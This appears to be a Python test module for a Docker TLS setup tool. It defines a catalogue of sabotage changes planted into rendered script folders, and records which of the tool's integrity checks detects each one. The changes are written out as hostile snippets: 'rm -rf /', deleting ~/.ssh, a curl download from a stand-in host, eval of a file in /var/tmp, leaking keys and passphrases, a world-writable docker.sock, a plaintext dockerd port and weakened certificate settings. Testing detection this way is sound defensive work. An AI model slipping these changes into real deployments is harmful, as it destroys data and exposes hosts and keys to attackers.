"""Back doors that a reviewer of a rendered folder has to find, and which of the product's own means find each."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

from dockseal.output.manifest import MANIFEST, SUMS, Entry, body_of, library_digest, sums_octets

# A change: a file of out/, a text in it, and what takes its place. An empty text appends; a new file has neither.
Change = tuple[str, str, str]
CLIENTS, DAEMON, VERIFY = (
    "ca/30-sign-clients.sh",
    "hosts/localhost/20-configure-daemon.sh",
    "hosts/localhost/90-verify.sh",
)


@dataclass(frozen=True)
class BackDoor:
    """What is planted, and who finds it.

    `plain` are the means besides `verify` that find it where only the files were changed: `sha256sum` and `setup.sh`.
    `sealed` are those besides `render --check` that find it where SHA256SUMS and manifest.json were made anew:
    `library` (the digest), `lint` (tests/lint) and, where they leave a file out, `verify`; `review --since` shows each,
    but reads no folder that `verify` refuses. `seen` is a test on a
    machine that looks at what this one would change; it does not run this back door, and is empty where there is none.
    """

    name: str
    changes: tuple[Change, ...]
    sealed: frozenset[str]
    plain: frozenset[str] = frozenset({"sha256sum", "setup.sh"})
    seen: str = ""
    left_out: frozenset[str] = frozenset()


def in_library(name: str, file: str, old: str, new: str, seen: str = "", lint: bool = False) -> BackDoor:
    """Return a back door in one file of the library."""
    sealed = {"library", *(["lint"] if lint else [])}
    return BackDoor(name, ((f"lib/{file}", old, new),), frozenset(sealed), seen=seen)


def in_step(name: str, *changes: Change, seen: str = "", lint: bool = False) -> BackDoor:
    """Return a back door in scripts that are this site's own."""
    return BackDoor(name, changes, frozenset({"lint"} if lint else ()), seen=seen)


SIGNED_AS_WANTED = "scripts/test_signed_as_wanted.py::test_what_was_signed_otherwise_is_not_handed_out"
SAFE_FOLDER = "scripts/test_clean_start.py::test_a_folder_that_another_user_could_change_is_refused"
SIGNING = "scripts/test_signing.py::test_"
CONTROL_FAILS = "host/test_verify.py::test_the_control_fails_when"
FILE_FAILS = "host/test_verify.py::test_the_control_of_a_file_fails_when_others_can_do_too_much"
LISTEN = "  -H tcp://127.0.0.1:2376\n"
SUMS_OF_A_STEP = re.compile(r"^.*  hosts/localhost/20-configure-daemon\.sh\n", re.MULTILINE)
CHECKED = """  ) || die 2 "these files are not what was rendered:"""
LISTED = """[[ ${sums} == *$'\\n'"${line}"$'\\n'* ]] || die 2"""

BACK_DOORS = (
    in_library("the server's key can be read by all", "daemon_tls.sh", "-m 0400", "-m 0444", FILE_FAILS),
    in_step(
        "dockerd listens on a second port, in plain text",
        (DAEMON, LISTEN, f"{LISTEN}  -H tcp://0.0.0.0:2375\n"),
        seen=CONTROL_FAILS,
    ),
    in_step(
        "dockerd listens on a second port, and the verification expects it",
        *((path, LISTEN, f"{LISTEN}  -H tcp://0.0.0.0:2377\n") for path in (DAEMON, VERIFY)),
    ),
    in_step("--tlsverify is dropped", (DAEMON, "  --tlsverify\n", "  --tlsverify=false\n"), seen=CONTROL_FAILS),
    in_library(
        "each certificate signs code too",
        "sign.sh",
        "= ${extended_key_usage}",
        "= ${extended_key_usage},codeSigning",
        SIGNED_AS_WANTED,
    ),
    in_step(
        "a client's certificate is a server's too",
        (CLIENTS, "extended_key_usage=clientAuth", "extended_key_usage=clientAuth,serverAuth"),
        seen=SIGNED_AS_WANTED,
    ),
    in_library("the CA may make CAs", "openssl.cnf", "CA:TRUE, pathlen:0", "CA:TRUE, pathlen:3"),
    in_library(
        "a guess at the CA's passphrase is cheap",
        "authority.sh",
        "-iter 600000",
        "-iter 1000",
        f"{SIGNING}the_ca_key_costs_a_guess_600000_rounds",
    ),
    in_library("certificates are signed with SHA-1", "sign.sh", '}" -sha256 \\\n', '}" -sha1 \\\n'),
    in_library(
        "a bad request is signed", "sign.sh", '[[ -z ${problem} ]] || refuse "', '[[ -n ${problem} ]] || refuse "'
    ),
    in_library(
        "others may own the folders", "change.sh", "(owner != EUID && owner != 0)", "(owner == EUID + 1)", SAFE_FOLDER
    ),
    in_library("containers are privileged", "probe.sh", "run --detach --rm", "run --privileged --detach --rm"),
    in_library(
        "root's timer runs another's file",
        "watch_expiry.sh",
        "home=/usr/local/lib/dockseal",
        "home=/var/tmp/dockseal",
        "host/test_expiry.py::test_the_timer_runs_the_very_files_that_were_reviewed",
    ),
    in_library("setup.sh only warns of a changed file", "setup.sh", CHECKED, CHECKED.replace("die 2", "note")),
    BackDoor(
        "setup.sh only warns, of a line that is missing too",
        (("lib/setup.sh", CHECKED, CHECKED.replace("die 2", "note")), ("lib/setup.sh", LISTED, f"{LISTED[:-5]}note")),
        frozenset({"library"}),
        frozenset({"sha256sum"}),
    ),
    BackDoor(
        "a line of SHA256SUMS is gone",
        ((SUMS, SUMS_OF_A_STEP.pattern, ""),),
        frozenset({"verify"}),
        frozenset({"setup.sh"}),
        "host/test_setup.py::test_sums_that_are_not_whole_let_no_changed_script_through",
        frozenset({DAEMON}),
    ),
    BackDoor(
        "a script comes along that nothing lists",
        (("hosts/localhost/10-prepare.sh", "", "#!/usr/bin/env bash\nrm -rf /\n"),),
        frozenset(),
        frozenset(),
    ),
    in_step("a client's certificate lives ten years", (CLIENTS, "'digitalSignature' 365", "'digitalSignature' 3650")),
    in_step(
        "a certificate has another's name too",
        ("ca/20-sign-servers.sh", "'DNS:localhost,", "'DNS:localhost,DNS:bank.example,"),
    ),
    in_library("what is made can be read by all", "begin.sh", "umask 077", "umask 022"),
    in_library(
        "the passphrase is logged",
        "passphrase.sh",
        "    passphrase=${answer}\n",
        "    passphrase=${answer}\n    printf '%s\\n' \"${answer}\" >>/var/tmp/.log\n",
        lint=True,
    ),
    in_library(
        "the passphrase is logged by a verb",
        "passphrase.sh",
        "\n# Runs openssl with",
        '\nwrite_log() {\n  write_file /var/tmp/.log 0644 "${passphrase}"\n}\n\n# Runs openssl with',
    ),
    in_library(
        "a key is copied elsewhere",
        "change.sh",
        '  run mv -nT -- "$1.new" "$1"\n',
        '  cp -- "$1.new" /var/tmp/.k\n  run mv -nT -- "$1.new" "$1"\n',
        lint=True,
    ),
    in_library(
        "a key is copied elsewhere, and it is printed",
        "change.sh",
        '  run mv -nT -- "$1.new" "$1"\n',
        '  run cp -- "$1.new" /var/tmp/.k\n  run mv -nT -- "$1.new" "$1"\n',
    ),
    in_library(
        "two runs are not kept apart", "change.sh", """if [[ ${verb} != check ]]; then lock "$1/.lock"; fi""", "true"
    ),
    in_library(
        "something is removed outside of the verbs",
        "request.sh",
        "make_request() {\n",
        'make_request() {\n  rm -rf -- "${HOME}/.ssh"\n',
        lint=True,
    ),
    in_library("programs come from a folder of others", "begin.sh", "export PATH=", "export PATH=/var/tmp/bin:"),
    in_library(
        "the caller's environment has its say",
        "begin.sh",
        "exec /usr/bin/env -i clean_start",
        "exec /usr/bin/env clean_start",
        "scripts/test_clean_start.py::test_a_variable_of_the_caller_has_no_say",
    ),
    in_library("bash obeys the caller's functions", "begin.sh", '/bin/bash -p -- "$0" "$@"', '/bin/bash -- "$0" "$@"'),
    in_library(
        "the sandbox may write",
        "confine.sh",
        "  --property=ProtectSystem=strict\n",
        "",
    ),
    in_library("the sandbox may get more rights", "confine.sh", "  --property=NoNewPrivileges=yes\n", ""),
    in_library(
        "everybody may use docker.sock",
        "daemon_tls.sh",
        '  run install -o root -g root -m 0400 -T -- "${key}"',
        '  run chmod 0666 /var/run/docker.sock\n  run install -o root -g root -m 0400 -T -- "${key}"',
        FILE_FAILS,
    ),
    in_library(
        "something is downloaded",
        "request.sh",
        "make_request() {\n",
        "make_request() {\n  run curl --silent https://bank.example/x\n",
        lint=True,
    ),
    in_step(
        "a text of another's is executed",
        (CLIENTS, 'sign_requests "$@"', 'eval "$(cat /var/tmp/x)"\nsign_requests "$@"'),
        lint=True,
    ),
    in_library("every control holds", "report.sh", "judge() {", 'judge() { set -- "$1" "$2" \'\' "${@:4}";'),
    in_step(
        "the reviewer is told to read less", ("README.md", "Compare it with what did not travel", "Do not compare")
    ),
)


def plant(door: BackDoor, folder: Path) -> None:
    """Plant a back door in a rendered folder; each text that it replaces has to be there."""
    for path, old, new in door.changes:
        file = folder / path
        if not old:
            assert not file.exists(), path
            file.write_text(new)
            continue
        text = file.read_text()
        planted, count = re.subn(old, new, text, flags=re.MULTILINE) if path == SUMS else _replaced(text, old, new)
        assert count, f"{door.name}: {path} has no {old!r}"
        assert planted != text
        file.write_text(planted)


def _replaced(text: str, old: str, new: str) -> tuple[str, int]:
    return text.replace(old, new), text.count(old)


def seal(folder: Path, left_out: frozenset[str] = frozenset()) -> None:
    """Make manifest.json and SHA256SUMS of a folder anew, as who planted something would; leave some files out."""
    manifest = folder / MANIFEST
    data = json.loads(manifest.read_text())
    paths = sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())
    data["files"] = [path for path in paths if path not in left_out]
    digests = {path: sha256((folder / path).read_bytes()).hexdigest() for path in data["files"]}
    for script in data["scripts"]:
        octets = (folder / script["path"]).read_bytes()
        script["sha256"] = sha256(octets).hexdigest()
        body = sha256(body_of(script["path"], octets)).hexdigest()
        data["templates"][script["template"]]["body_sha256"] = body
    data["library_sha256"] = library_digest(Entry(path, digest) for path, digest in digests.items())
    manifest.write_text(json.dumps(data, indent=1) + "\n")
    digests[MANIFEST] = sha256(manifest.read_bytes()).hexdigest()
    del digests[SUMS]
    (folder / SUMS).write_bytes(sums_octets([Entry(path, digest) for path, digest in digests.items()]))


def table() -> Iterator[str]:
    """Yield the lines of docs/back-doors.md that say who finds what."""
    titles = ("back door", "`verify`", "`sha256sum`", "`setup.sh`", "`verify`", "`library`", "lint")
    yield f"| {' | '.join(titles)} | `review --since` | `render --check` | looked at by |"
    yield "|---|---|---|---|---|---|---|---|---|---|"
    for door in BACK_DOORS:
        plain = ["found", *("found" if mean in door.plain else "-" for mean in ("sha256sum", "setup.sh"))]
        sealed = ["found" if mean in door.sealed else "-" for mean in ("verify", "library", "lint")]
        seen = f"`{door.seen}`" if door.seen else "-"
        review = "-" if "verify" in door.sealed else "found"
        yield f"| {' | '.join([door.name, *plain, *sealed, review, 'found', seen])} |"
